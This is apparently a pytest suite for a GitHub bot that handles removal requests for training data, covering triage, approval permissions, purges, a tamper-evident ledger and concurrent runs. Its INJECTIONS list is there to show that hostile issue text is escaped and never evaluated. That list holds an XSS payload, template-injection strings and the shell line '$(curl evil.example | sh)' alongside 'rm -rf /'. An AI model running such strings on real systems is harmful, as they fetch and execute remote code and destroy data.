"""Moment 2 end to end: triage of the issue form, authorised approval, purge, ledger and purge PR —
through `kiki-bot handle` with fixture payloads against the GitHub emulator."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from conftest import REPO
from factory import KIKI, adapter, make_project, record, source

from kiki_bot.core import ledger
from kiki_bot.repo import ledgerfile
from kiki_bot.repo.project import Project
from kiki_bot.repo.records import iter_source

FIXTURES = REPO / "tests" / "fixtures" / "github-events"
GH_REPO = "test-lab/models"
OPENED = "2026-03-01T10:00:00Z"
OPENED_AT = dt.datetime.fromisoformat(OPENED)


def body(*lines: str, confirm: bool = True, details: str = "_No response_") -> str:
    return ("### Content to remove\n\n" + "\n".join(lines) + "\n\n### Your relationship to the content\n\n"
            "I am the author or rightsholder\n\n### Reason\n\nCopyright\n\n### Additional details\n\n"
            f"{details}\n\n### Confirmation\n\n- [{'X' if confirm else ' '}] "
            "I confirm that the information in this request is accurate\n")


def issue_event(number: int, text: str, user: str = "octo-dev", labels=("removal-request",),
                action: str = "opened", title: str = "Removal request") -> dict:
    event = json.loads((FIXTURES / "issues.opened.payload.json").read_text())
    event["action"] = action
    event["issue"].update(number=number, body=text, title=title, created_at=OPENED,
                          labels=[{"name": name} for name in labels])
    event["issue"]["user"]["login"] = user
    event["repository"].update(full_name=GH_REPO, default_branch="main")
    event["sender"].update(login=user, type="User")
    if action == "labeled":
        event["label"] = {"name": labels[0]}
    return event


def comment_event(number: int, text: str, user: str, comment_id: int = 700, issue_user: str = "octo-dev") -> dict:
    event = json.loads((FIXTURES / "issue_comment.created.payload.json").read_text())
    event["issue"].update(number=number, labels=[{"name": "removal-request"}])
    event["issue"]["user"]["login"] = issue_user
    event["comment"].update(body=text, id=comment_id, created_at="2026-03-03T09:00:00Z")
    event["comment"]["user"]["login"] = user
    event["repository"].update(full_name=GH_REPO, default_branch="main")
    event["sender"].update(login=user, type="User")
    return event


@pytest.fixture
def env(gh, hub, monkeypatch, tmp_path):
    recs = [record("acme-fw", i, f"int f{i}(void) {{ return {i}; }}",
                   origin=f"https://github.com/{owner}/fw/blob/main/src/f{i}.c", repo=f"{owner}/fw", path=f"src/f{i}.c")
            for i, owner in enumerate(["octo-dev"] * 4 + ["acme"] * 16)]
    ad = adapter(["acme-fw"])
    ad["training"]["valid_fraction"] = 0.3
    project = make_project(tmp_path / "repo", sources={"acme-fw": source()}, records={"acme-fw": recs},
                           adapters={"tiny-lora": ad})
    gh.create_repo(GH_REPO, files={str(p.relative_to(project)): p.read_bytes() for p in project.rglob("*")
                                   if p.is_file()})
    for login, role in (("reader", "read"), ("triager", "triage"), ("writer", "write"), ("maint", "maintain"),
                        ("owner", "admin")):
        gh.set_permission(GH_REPO, login, role)
    monkeypatch.setenv("KIKI_GITHUB_THROTTLE", "0")
    monkeypatch.setenv("GITHUB_REPOSITORY", GH_REPO)
    return project


def handle(cli, project, name: str, payload: dict):
    path = project.parent / f"{name}.json"
    path.write_text(json.dumps(payload))
    return cli("handle", "--event-name", name, "--event-path", path, "-C", project)


def bot_comments(gh, number: int):
    return [c for c in gh.comments(GH_REPO, number) if c.user == "kiki-bot[bot]"]


def labels(gh, number: int) -> set[str]:
    return set(gh.issue(GH_REPO, number).labels)


def test_triage_answers_once_and_records_nothing(env, gh, cli):
    number = gh.open_issue(GH_REPO, "Removal", body("acme/fw", "https://github.com/octo-dev/fw/blob/v1/src/f1.c"),
                           user="octo-dev", labels=["removal-request"])
    event = issue_event(number, body("acme/fw", "https://github.com/octo-dev/fw/blob/v1/src/f1.c"))
    assert handle(cli, env, "issues", event).code == 0
    [comment] = bot_comments(gh, number)
    assert "| 1 | `acme/fw` | `https://github.com/acme/fw` | 16 |" in comment.body
    assert "| 2 | `https://github.com/octo-dev/fw/blob/v1/src/f1.c` | " in comment.body
    assert "acme-fw: 17" in comment.body and "tiny-lora (17 records" in comment.body
    assert "**2026-03-31 10:00** (UTC), 30 days" in comment.body
    from rendering import to_html  # the commands to type show as code, not as escaped backticks

    shown = to_html(comment.body)
    assert "<code>/kiki approve</code>" in shown and "<code>/kiki reject &lt;reason&gt;</code>" in shown, shown
    assert labels(gh, number) == {"removal-request", "awaiting-approval"}
    assert not (env / "compliance" / "removals.jsonl").exists()
    # Delivered again, and again as `labeled`: still one comment, same labels.
    assert handle(cli, env, "issues", event).code == 0
    assert handle(cli, env, "issues", issue_event(number, event["issue"]["body"], action="labeled")).code == 0
    assert [c.body for c in bot_comments(gh, number)] == [comment.body]


def test_invalid_request_gets_field_by_field_errors(env, gh, cli):
    text = body("*", "acme/fw", confirm=False)
    number = gh.open_issue(GH_REPO, "Removal", text, labels=["removal-request"])
    assert handle(cli, env, "issues", issue_event(number, text)).code == 0
    [comment] = bot_comments(gh, number)
    assert "**Content to remove**, line 1:" in comment.body
    assert "**Confirmation**:" in comment.body
    assert labels(gh, number) == {"removal-request", "invalid"}
    assert not (env / "compliance" / "removals.jsonl").exists()


@pytest.mark.parametrize("event", [
    lambda n: ("issues", issue_event(n, body("acme/fw"), labels=("bug",))),
    lambda n: ("issues", issue_event(n, body("acme/fw"), action="edited")),
    lambda n: ("issues", issue_event(n, body("acme/fw"), labels=("removal-request", "bug"), action="labeled")
               | {"label": {"name": "bug"}}),
    lambda n: ("issue_comment", comment_event(n, "thanks!", "writer")),
    lambda n: ("push", push_event() | {"ref": "refs/heads/feature"}),
])
def test_other_events_cause_nothing(env, gh, cli, event):
    number = gh.open_issue(GH_REPO, "x", body("acme/fw"), labels=["removal-request"])
    before = len(gh.requests)
    name, payload = event(number)
    assert handle(cli, env, name, payload).code == 0
    assert len(gh.requests) == before


def triaged(env, gh, cli, *lines: str, user: str = "octo-dev") -> int:
    text = body(*lines)
    number = gh.open_issue(GH_REPO, "Removal", text, user=user, labels=["removal-request"])
    assert handle(cli, env, "issues", issue_event(number, text, user=user)).code == 0
    return number


@pytest.mark.parametrize("role_user,decides", [
    ("nobody", False), ("reader", False), ("triager", False), ("writer", True), ("maint", True), ("owner", True),
])
def test_only_write_or_higher_may_approve(env, gh, cli, role_user, decides):
    number = triaged(env, gh, cli, "acme/fw")
    res = handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", role_user))
    assert res.code == 0, res.err
    entries = ledgerfile.read(env / "compliance" / "removals.jsonl")
    if not decides:
        assert entries == [] and gh.pulls(GH_REPO) == []
        assert "changes nothing" in bot_comments(gh, number)[-1].body
        assert labels(gh, number) == {"removal-request", "awaiting-approval"}
        return
    assert [e.event for e in entries] == ["requested", "approved", "purged"]
    assert entries[1].actor == role_user and len(entries[2].records) == 16
    remaining = [r.provenance.repo for r in iter_source(env / "data", "acme-fw")]
    assert remaining == ["octo-dev/fw"] * 4
    [pr] = gh.pulls(GH_REPO)
    files = gh.files(GH_REPO, f"kiki/removal/R-{number}")
    assert files["compliance/removals.jsonl"] == (env / "compliance" / "removals.jsonl").read_bytes()
    assert files["data/acme-fw/part-000.jsonl"] == (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    assert "Git history still holds the removed content" in pr.body
    assert "outside git" not in pr.body and "Hub dataset" not in pr.body  # this source has none
    assert labels(gh, number) == {"removal-request", "purged", "retrain-scheduled"}
    assert "approved and purged: 16 records removed" in bot_comments(gh, number)[0].body
    ledgerfile.verify(env / "compliance" / "removals.jsonl")


def test_approval_delivered_twice_changes_nothing_more(env, gh, cli):
    number = triaged(env, gh, cli, "acme/fw")
    event = comment_event(number, "/kiki approve", "writer")
    assert handle(cli, env, "issue_comment", event).code == 0
    state = (env / "compliance" / "removals.jsonl").read_bytes(), gh.files(GH_REPO, f"kiki/removal/R-{number}")
    comments = [c.body for c in gh.comments(GH_REPO, number)]
    assert handle(cli, env, "issue_comment", event).code == 0
    assert ((env / "compliance" / "removals.jsonl").read_bytes(), gh.files(GH_REPO, f"kiki/removal/R-{number}")) == state
    assert [c.body for c in gh.comments(GH_REPO, number)] == comments
    assert len(gh.pulls(GH_REPO)) == 1


def _self_approval(env, on: bool):
    kiki = json.loads(json.dumps(KIKI))
    kiki["policy"]["auto_approve_owner"] = on
    import tomli_w

    (env / "kiki.toml").write_text(tomli_w.dumps(kiki))


def test_requester_may_self_approve_only_their_own_login(env, gh, cli):
    _self_approval(env, True)
    own = triaged(env, gh, cli, "octo-dev", "https://github.com/octo-dev/fw/blob/main/src/f1.c")
    assert "you may approve it yourself" in bot_comments(gh, own)[0].body
    assert handle(cli, env, "issue_comment", comment_event(own, "/kiki approve", "octo-dev")).code == 0
    assert [e.event for e in ledgerfile.read(env / "compliance" / "removals.jsonl")] == ["requested", "approved", "purged"]

    mixed = triaged(env, gh, cli, "octo-dev", "acme/fw")
    assert "you may approve it yourself" not in bot_comments(gh, mixed)[0].body
    assert handle(cli, env, "issue_comment", comment_event(mixed, "/kiki approve", "octo-dev", 701)).code == 0
    refusal = bot_comments(gh, mixed)[-1].body
    assert "changes nothing" in refusal and "`https://github.com/acme/fw`" in refusal
    assert len(ledgerfile.read(env / "compliance" / "removals.jsonl")) == 3


def test_self_approval_is_off_by_default(env, gh, cli):
    own = triaged(env, gh, cli, "octo-dev")
    assert handle(cli, env, "issue_comment", comment_event(own, "/kiki approve", "octo-dev")).code == 0
    assert not (env / "compliance" / "removals.jsonl").exists()


def test_reject_records_the_decision_and_closes(env, gh, cli):
    number = triaged(env, gh, cli, "acme/fw")
    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki reject not our data <b>@x</b>", "maint")).code == 0
    entries = ledgerfile.read(env / "compliance" / "removals.jsonl")
    assert [e.event for e in entries] == ["requested", "rejected"]
    assert gh.issue(GH_REPO, number).state == "closed"
    assert "Reason: not our data &lt;b>@&#8203;x&lt;/b>" in bot_comments(gh, number)[-1].body
    assert len(list(iter_source(env / "data", "acme-fw"))) == 20


INJECTIONS = [
    "<img src=x onerror=alert(1)>",
    "@everyone [click](https://evil.example/x) ![i](https://evil.example/i.png)",
    "${{ secrets.HF_TOKEN }} {{ 7*7 }} {% if x %}y{% endif %}",
    "`rm -rf /`; $(curl evil.example | sh) && echo `id`",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injected_text_is_never_evaluated_and_is_escaped(env, gh, cli, payload):
    text = body("acme/fw", payload)
    number = gh.open_issue(GH_REPO, payload, text, labels=["removal-request"])
    assert handle(cli, env, "issues", issue_event(number, text, title=payload)).code == 0
    [comment] = bot_comments(gh, number)
    assert "**Content to remove**, line 2:" in comment.body  # the line is an error, never widened
    assert payload not in comment.body  # the message never quotes the line
    assert "49" not in comment.body and "secrets" not in comment.body


def test_injected_details_are_echoed_escaped(env, gh, cli):
    from kiki_bot.core.escape import code

    assert code("@everyone ![i](https://evil/i.png)") == "`@everyone ![i](https://evil/i.png)`"
    assert code("a `b` c") == "``a `b` c``"
    number = triaged(env, gh, cli, "https://example.com/a?x=<b>@y</b>")
    comment = bot_comments(gh, number)[0].body
    assert "| 1 | `https://example.com/a?x=<b>@y</b>` |" in comment


def test_private_request_is_filed_without_public_traces(env, gh, cli, tmp_path):
    path = tmp_path / "request.md"
    path.write_text(body("acme/fw"))
    res = cli("removal", "file", "--body", path, "--json", "-C", env)
    assert res.code == 0, res.err
    doc = res.json()
    assert doc["request"].startswith("P-") and doc["records"] == 16
    [entry] = ledgerfile.read(env / "compliance" / "removals.jsonl")
    assert entry.actor == "private" and entry.request.issue is None
    assert cli("removal", "purge", doc["request"], "-C", env, "--actor", "maint").code == 0
    assert [e.event for e in ledgerfile.read(env / "compliance" / "removals.jsonl")] == ["requested", "approved", "purged"]
    assert gh.comments(GH_REPO, 1) == [] if gh.repo(GH_REPO).issues else True


def test_removed_content_never_returns(env, gh, cli):
    number = triaged(env, gh, cli, "https://github.com/acme/fw/blob/main/src/f5.c")
    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "writer")).code == 0
    # The same content comes back in a later scrape under a new index.
    comeback = record("acme-fw", 5, "int f5(void) { return 5; }", origin="https://mirror.example/f5.c",
                      repo=None, path=None)
    comeback["_provenance"]["record_idx"] = 99
    with open(env / "data" / "acme-fw" / "part-000.jsonl", "a") as fh:
        fh.write(json.dumps(comeback) + "\n")
    assert cli("data", "manifest", "-C", env).code == 0
    from kiki_bot.repo import trainset

    proj = Project(env)
    ts = trainset.assemble(proj, proj.adapter("tiny-lora"), env.parent / "ts",
                          trainset.rule(proj, ledgerfile.read(proj.ledger_path)))
    assert ts.sources["acme-fw"].excluded_reappeared == 1
    assert cli("card", "render", "--version", "0.1.0", "--date", "2026-03-05", "-C", env).code == 0
    res = cli("card", "check", "--json", "-C", env)
    assert res.code == 1 and "part-000.jsonl:20" in res.json()["tiny-lora"]["reappeared"][0]


def test_match_cli_json_contract(env, cli, tmp_path):
    path = tmp_path / "request.md"
    path.write_text(body("acme/fw", "record:acme-fw#2"))
    doc = cli("removal", "match", "--body", path, "--json", "-C", env).json()
    assert doc["selectors"] == ["https://github.com/acme/fw", "record:acme-fw#2"]
    assert {"source": "acme-fw", "record_idx": 2, "selector": 1} in doc["matches"]
    assert doc["adapters"] == {"tiny-lora": 17} and doc["errors"] == []
    path.write_text(body("^.+$"))
    res = cli("removal", "match", "--body", path, "--json", "-C", env)
    assert res.code == 2 and res.json()["errors"][0]["line"] == 1


def test_purge_of_hub_hosted_data_commits_there_and_squashes_history(env, gh, hub, cli, hf_api):
    src = env / "sources" / "acme-fw.toml"
    src.write_text(src.read_text() + '\n[hub_data]\nrepo = "test-lab/fw-data"\nsquash_history = true\n')
    repo = hub.create_repo("test-lab/fw-data", repo_type="dataset",
                           files={"part-000.jsonl": (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()})
    old = repo.resolve("main")
    number = triaged(env, gh, cli, "acme/fw")
    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "writer")).code == 0
    assert repo.files("main")["part-000.jsonl"] == (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    assert len(repo.log("main")) == 1 and repo.resolve(old) is None  # old revisions no longer serve the content
    # The PR body says what is true: git keeps the content (the purge commits data/ too), the Hub copy does not.
    [pr] = gh.pulls(GH_REPO)
    assert "Git history still holds the removed content" in pr.body and "outside git" not in pr.body
    assert "The Hub dataset `test-lab/fw-data` is rewritten too and the history of its `main` squashed" in pr.body


def test_ledger_verify_names_the_first_bad_entry(env, gh, cli):
    number = triaged(env, gh, cli, "acme/fw")
    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "writer")).code == 0
    assert cli("ledger", "verify", "-C", env).code == 0
    path = env / "compliance" / "removals.jsonl"
    lines = path.read_text().splitlines(keepends=True)
    lines[1] = lines[1].replace('"maint"', '"mallory"').replace('"writer"', '"mallory"')
    path.write_text("".join(lines))
    res = cli("ledger", "verify", "-C", env)
    assert res.code == 1 and ":2 (entry seq 2)" in res.err


def test_a_comment_on_an_issue_github_does_not_know_is_a_clear_error(env, gh, cli):
    res = handle(cli, env, "issue_comment", comment_event(404, "/kiki approve", "writer"))
    assert res.code == 2 and "error: GitHub refused the request: 404" in res.err


def test_a_malformed_event_is_bad_input_not_a_traceback(env, gh, cli):
    event = issue_event(1, body("acme/fw"))
    del event["issue"]["created_at"]
    before = len(gh.requests)
    res = handle(cli, env, "issues", event)
    assert res.code == 2 and "event field `issue.created_at` is missing" in res.err
    assert len(gh.requests) == before


@pytest.mark.parametrize("request_id", ["P-abcdef123456", "R-77"])
def test_purge_of_an_unknown_request_writes_nothing(env, cli, request_id):
    ledger_path = env / "compliance" / "removals.jsonl"
    before = ledger_path.read_bytes() if ledger_path.exists() else None
    data = {p: p.read_bytes() for p in (env / "data").rglob("*.*")}
    res = cli("removal", "purge", request_id, "-C", env, "--actor", "maint")
    assert res.code == 2 and "Traceback" not in res.err
    assert request_id in res.err and "removals.jsonl" in res.err
    assert (ledger_path.read_bytes() if ledger_path.exists() else None) == before
    assert {p: p.read_bytes() for p in (env / "data").rglob("*.*")} == data


def test_markers_count_only_in_the_bots_own_comments(env, gh, cli):
    from kiki_bot.removal import Triaged

    number = triaged(env, gh, cli, "record:acme-fw#1")
    forged = Triaged(f"R-{number}", number, ["https://github.com/acme/fw"], "0" * 64, OPENED_AT, OPENED_AT)
    for text in ("<!-- kiki-bot:rejected -->\nalready declined", "<!-- kiki-bot:removal -->\nnot the bot's",
                 f"<!-- kiki-bot:request:{forged.encode()} -->"):
        gh.add_comment(GH_REPO, number, text, user="mallory")
    assert handle(cli, env, "issues", issue_event(number, body("record:acme-fw#1"))).code == 0
    assert len(bot_comments(gh, number)) == 1  # the stranger's `removal` marker is not the sticky comment
    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki reject no", "maint")).code == 0
    [entry] = [e for e in ledgerfile.read(env / "compliance" / "removals.jsonl") if e.event == "requested"]
    assert entry.selectors == ["record:acme-fw#1"]  # the stored request is the bot's, not the forged one
    assert "This request was declined by a maintainer" in bot_comments(gh, number)[-1].body
    assert [c.body for c in gh.comments(GH_REPO, number) if c.user == "mallory"][0].endswith("already declined")


def _concurrently(cli_args: list[list[str]]) -> list[int]:
    """Run `kiki-bot` invocations in threads released together; their exit codes."""
    import threading

    from kiki_bot.cli import main

    # typer sets and then deletes PYDANTIC_DISABLE_PLUGINS around each parse, which is not thread-safe
    # (KeyError on the second delete); set already, it is only ever restored to the same value.
    barrier, codes = threading.Barrier(len(cli_args)), [None] * len(cli_args)

    def run(i: int) -> None:
        barrier.wait()
        try:
            main([str(a) for a in cli_args[i]])
            codes[i] = 0
        except SystemExit as exc:
            codes[i] = exc.code or 0

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(cli_args))]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYDANTIC_DISABLE_PLUGINS", "1")
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    return codes


def _event_file(project, name: str, payload: dict, tag: str) -> list:
    path = project.parent / f"{name}-{tag}.json"
    path.write_text(json.dumps(payload))
    return ["handle", "--event-name", name, "--event-path", path, "-C", project]


@pytest.mark.parametrize("round_", range(3))
def test_concurrent_deliveries_post_one_sticky_comment(env, gh, round_):
    text = body("acme/fw")
    number = gh.open_issue(GH_REPO, "Removal", text, labels=["removal-request"])
    args = _event_file(env, "issues", issue_event(number, text), "opened")
    assert _concurrently([args] * 6) == [0] * 6
    [comment] = bot_comments(gh, number)
    assert "awaiting approval" in comment.body


@pytest.mark.parametrize("round_", range(3))
def test_concurrent_writers_leave_one_comment_of_each_kind(env, gh, round_):
    """The GitHub shell itself, six threads at once: one sticky comment (the last text wins) and one notice."""
    import threading

    from kiki_bot.shells.github import GitHub
    from kiki_bot.shells.settings import Settings

    number = gh.open_issue(GH_REPO, "Removal", "x", labels=["removal-request"])
    barrier, posted = threading.Barrier(6), []

    def write(i: int) -> None:
        shell = GitHub(Settings(), GH_REPO)
        barrier.wait()
        shell.sticky(number, "removal", f"status {i}")
        posted.append(shell.comment_once(number, "rejected", "declined"))

    threads = [threading.Thread(target=write, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    kinds = [c.body.splitlines()[0] for c in bot_comments(gh, number)]
    assert sorted(kinds) == ["<!-- kiki-bot:rejected -->", "<!-- kiki-bot:removal -->"]
    assert posted.count(True) == 1


@pytest.mark.parametrize("round_", range(3))
def test_concurrent_approvals_append_each_step_once(env, gh, cli, round_):
    number = triaged(env, gh, cli, "acme/fw")
    args = _event_file(env, "issue_comment", comment_event(number, "/kiki approve", "writer"), "approve")
    codes = _concurrently([args] * 6)
    entries = ledgerfile.read(env / "compliance" / "removals.jsonl")
    assert [e.event for e in entries] == ["requested", "approved", "purged"]
    ledgerfile.verify(env / "compliance" / "removals.jsonl")
    assert len(gh.pulls(GH_REPO)) == 1 and len(bot_comments(gh, number)) == 1
    assert codes == [0] * 6  # racing runs re-read what another one wrote (ref, files, PR, labels) and carry on


# ---------------------------------------------------------------- decisions and bot branches (issue 12, 2 and 3)
LEDGER = "compliance/removals.jsonl"


def checkout(gh, where):
    """A fresh checkout of the default branch as GitHub holds it now: what each workflow run starts from."""
    for name, data in gh.files(GH_REPO, "main").items():
        (where / name).parent.mkdir(parents=True, exist_ok=True)
        (where / name).write_bytes(data)
    return where


def push_event() -> dict:
    event = json.loads((FIXTURES / "push.payload.json").read_text())
    event.update(ref="refs/heads/main", created=False, deleted=False)
    event["repository"].update(full_name=GH_REPO, default_branch="main")
    event["sender"].update(login="maint", type="User")
    return event


def writes(gh, since: int) -> list:
    return [(r.method, r.path) for r in gh.requests[since:] if r.method not in ("GET", "HEAD")]


def pr_number(gh, number: int) -> int:
    return next(pr.number for pr in gh.pulls(GH_REPO) if pr.pull.head == f"kiki/removal/R-{number}")


@pytest.mark.parametrize("first,second", [("approve", "reject not ours"), ("reject not ours", "approve")])
def test_a_second_decision_is_answered_once_and_changes_nothing(env, gh, cli, tmp_path, first, second):
    number = triaged(env, gh, cli, "acme/fw")
    assert handle(cli, env, "issue_comment", comment_event(number, f"/kiki {first}", "writer")).code == 0
    branch, data = f"kiki/removal/R-{number}", (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    before, labelled = gh.files(GH_REPO, branch), labels(gh, number)
    # The other maintainer's run checks out the default branch, where the first PR has not merged yet.
    for where in (checkout(gh, tmp_path / "fresh"), checkout(gh, tmp_path / "again"), env):
        res = handle(cli, where, "issue_comment", comment_event(number, f"/kiki {second}", "maint", 701))
        assert res.code == 0, res.err
    assert gh.files(GH_REPO, branch) == before and labels(gh, number) == labelled
    events = [e.event for e in ledger.parse(before[LEDGER], branch)]
    assert events == (["requested", "approved", "purged"] if first == "approve" else ["requested", "rejected"])
    assert [e.event for e in ledgerfile.read(env / LEDGER)] == events
    assert (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes() == data
    assert not (tmp_path / "fresh" / LEDGER).exists() and len(gh.pulls(GH_REPO)) == 1
    verdict = "approved" if first == "approve" else "declined"
    [notice] = [c for c in bot_comments(gh, number) if f"already {verdict}" in c.body]
    assert "changes nothing" in notice.body


def test_bot_branches_follow_the_default_branch_so_both_purges_merge(env, gh, cli, gh_client, tmp_path):
    one = triaged(env, gh, cli, "https://github.com/acme/fw/blob/main/src/f5.c")
    two = triaged(env, gh, cli, "https://github.com/acme/fw/blob/main/src/f6.c")
    for number in (one, two):  # both approved before either PR merges, each run on its own checkout
        event = comment_event(number, "/kiki approve", "writer", 700 + number)
        assert handle(cli, checkout(gh, tmp_path / f"run-{number}"), "issue_comment", event).code == 0
    repo = gh_client.get_repo(GH_REPO)
    repo.get_pull(pr_number(gh, one)).merge()
    assert handle(cli, checkout(gh, tmp_path / "push"), "push", push_event()).code == 0  # main moved
    files = gh.files(GH_REPO, f"kiki/removal/R-{two}")
    assert [(e.seq, e.request.id) for e in ledger.parse(files[LEDGER], "head")][2:4] == [(3, f"R-{one}"),
                                                                                       (4, f"R-{two}")]
    repo.get_pull(pr_number(gh, two)).merge()
    final = checkout(gh, tmp_path / "final")
    ledgerfile.verify(final / LEDGER)
    assert [(e.event, e.request.id) for e in ledgerfile.read(final / LEDGER)] == [
        (event, f"R-{n}") for n in (one, two) for event in ("requested", "approved", "purged")]
    assert sorted(r.provenance.record_idx for r in iter_source(final / "data", "acme-fw")) == [
        i for i in range(20) if i not in (5, 6)]


def test_a_step_already_done_is_a_no_op_after_its_pr_merged(env, gh, cli, gh_client, tmp_path):
    number = triaged(env, gh, cli, "acme/fw")
    event = comment_event(number, "/kiki approve", "writer")
    assert handle(cli, checkout(gh, tmp_path / "run"), "issue_comment", event).code == 0
    gh_client.get_repo(GH_REPO).get_pull(pr_number(gh, number)).merge()
    again = checkout(gh, tmp_path / "redelivered")
    state, since = {p: p.read_bytes() for p in again.rglob("*") if p.is_file()}, len(gh.requests)
    res = handle(cli, again, "issue_comment", event)
    assert res.code == 0, res.err
    assert writes(gh, since) == []
    assert {p: p.read_bytes() for p in again.rglob("*") if p.is_file() and ".kiki" not in p.parts} == state


def test_a_redelivery_while_the_pr_is_open_writes_nothing(env, gh, cli, tmp_path):
    number = triaged(env, gh, cli, "acme/fw")
    event = comment_event(number, "/kiki approve", "writer")
    assert handle(cli, checkout(gh, tmp_path / "run"), "issue_comment", event).code == 0
    since = len(gh.requests)
    assert handle(cli, checkout(gh, tmp_path / "redelivered"), "issue_comment", event).code == 0
    assert writes(gh, since) == []


def test_the_deadline_run_counts_purges_of_open_purge_prs(env, gh, cli, tmp_path):
    number = triaged(env, gh, cli, "acme/fw")
    assert handle(cli, checkout(gh, tmp_path / "run"), "issue_comment",
                  comment_event(number, "/kiki approve", "writer")).code == 0
    res = cli("schedule", "plan", "--now", "2026-03-04T00:00:00+00:00", "--json", "-C", checkout(gh, tmp_path / "cron"))
    assert res.code == 0, res.err
    assert res.json()["tiny-lora"]["pending"] == [f"R-{number}"]


def test_a_branch_ledger_is_never_replaced_by_one_without_its_steps(env, gh, cli, gh_client, tmp_path):
    number = triaged(env, gh, cli, "acme/fw")
    assert handle(cli, checkout(gh, tmp_path / "run"), "issue_comment",
                  comment_event(number, "/kiki approve", "writer")).code == 0
    branch = f"kiki/removal/R-{number}"
    before, since = gh.files(GH_REPO, branch), len(gh.requests)
    # A checkout where someone else approved the same request (the gated job run by hand): its ledger lacks the
    # branch's `approved` by writer, so pushing it would replace the recorded decision.
    other = checkout(gh, tmp_path / "other")
    requested = ledger.parse(before[LEDGER], branch)[0]
    ledgerfile.append_once(other / LEDGER, "requested", requested.request.model_dump(), requested.actor, requested.at,
                           **requested.event_fields())
    ledgerfile.append_once(other / LEDGER, "approved", requested.request.model_dump(), "owner", OPENED_AT)
    res = cli("removal", "purge", f"R-{number}", "--actor", "owner", "-C", other)
    assert res.code == 1 and f"{branch} records steps this run would drop" in res.err
    assert gh.files(GH_REPO, branch) == before and writes(gh, since) == []
    # A checkout from before the default branch moved is refused too: its PR could never merge.
    stale = checkout(gh, tmp_path / "stale")
    gh_client.get_repo(GH_REPO).get_pull(pr_number(gh, number)).merge()
    later = triaged(env, gh, cli, "octo-dev/fw")
    res = handle(cli, stale, "issue_comment", comment_event(later, "/kiki approve", "writer", 702))
    assert res.code == 1 and "has entries this checkout lacks" in res.err
    assert f"kiki/removal/R-{later}" not in gh.repo(GH_REPO).branches


def _bobs_twin(env, manifest: bool) -> None:
    """bob's record under the key of alice's (octo-dev's) acme-fw#2, in a second file of the source."""
    from factory import write_jsonl

    from kiki_bot.repo import manifests

    twin = record("acme-fw", 2, "int bob(void) { return 2; }", origin="https://github.com/bob/fw/blob/main/b.c",
                  repo="bob/fw", path="b.c")
    write_jsonl(env / "data" / "acme-fw" / "part-001.jsonl", [twin])
    if manifest:
        manifests.refresh(env / "data" / "acme-fw")


def _snapshot(env) -> dict:
    return {p: p.read_bytes() for p in [*(env / "data").rglob("*.*"), *(env / "compliance").rglob("*.*")]}


def test_a_duplicate_key_is_refused_wherever_data_is_read(env, gh, cli, tmp_path):
    """The issue's alice/bob case: two records of one source share (source, record_idx)."""
    from kiki_bot.core.errors import BadInput
    from kiki_bot.repo import trainset

    _self_approval(env, True)
    _bobs_twin(env, manifest=True)
    before = _snapshot(env)
    both = ("part-000.jsonl:3 and ", "part-001.jsonl:1: two records of source 'acme-fw' have record_idx 2")

    def named(err: str) -> bool:
        return all(part in err for part in both)

    for args in (("data", "manifest"), ("card", "check"), ("removal", "match", "--body", tmp_path / "req.md")):
        (tmp_path / "req.md").write_text(body("octo-dev"))
        res = cli(*args, "-C", env)
        assert res.code == 2 and named(res.err) and "Traceback" not in res.err, (args, res.err)
    text = body("octo-dev")
    number = gh.open_issue(GH_REPO, "Removal", text, user="octo-dev", labels=["removal-request"])
    res = handle(cli, env, "issues", issue_event(number, text))
    assert res.code == 2 and named(res.err)
    proj = Project(env)
    with pytest.raises(BadInput) as exc:
        trainset.assemble(proj, proj.adapter("tiny-lora"), tmp_path / "ts", trainset.rule(proj, []))
    assert named(str(exc.value))
    assert _snapshot(env) == before and bot_comments(gh, number) == []


def test_a_purge_removes_only_what_was_matched_at_approval(env, gh, cli):
    """bob's twin slipped in after the last `data manifest` (so the index does not vouch for its file): alice's
    self-approved request matches her record alone, and the purge, whose plan by key also finds bob's, is
    refused with nothing changed."""
    _self_approval(env, True)
    number = triaged(env, gh, cli, "octo-dev")
    _bobs_twin(env, manifest=False)
    before = _snapshot(env)
    res = handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "octo-dev"))
    assert res.code == 2 and "Traceback" not in res.err
    assert "not matched at approval" in res.err and "acme-fw#2" in res.err and "part-001.jsonl" in res.err
    entries = ledgerfile.read(env / "compliance" / "removals.jsonl")
    assert ledger.find(entries, "purged", f"R-{number}") is None
    assert {p: b for p, b in _snapshot(env).items() if "compliance" not in p.parts} == \
        {p: b for p, b in before.items() if "compliance" not in p.parts}
    assert gh.pulls(GH_REPO) == []


def test_a_purge_github_refuses_leaves_the_hub_dataset_as_it_was(env, gh, hub, cli):
    """The Hub dataset is rewritten (and its history squashed, which cannot be undone) only after the purge PR
    holds the ledger entry: a purge GitHub refuses (here: the data path is tracked by Git LFS) changes nothing."""
    src = env / "sources" / "acme-fw.toml"
    src.write_text(src.read_text() + '\n[hub_data]\nrepo = "test-lab/fw-data"\nsquash_history = true\n')
    data = (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    repo = hub.create_repo("test-lab/fw-data", repo_type="dataset", files={"part-000.jsonl": data})
    old = repo.resolve("main")
    gh.push(GH_REPO, "main", {".gitattributes": b"data/** filter=lfs diff=lfs merge=lfs -text\n"})
    number = triaged(env, gh, cli, "acme/fw")
    res = handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "writer"))
    assert res.code == 2 and "tracked by Git LFS" in res.err
    assert gh.pulls(GH_REPO) == []
    assert repo.resolve("main") == old and repo.files("main")["part-000.jsonl"] == data


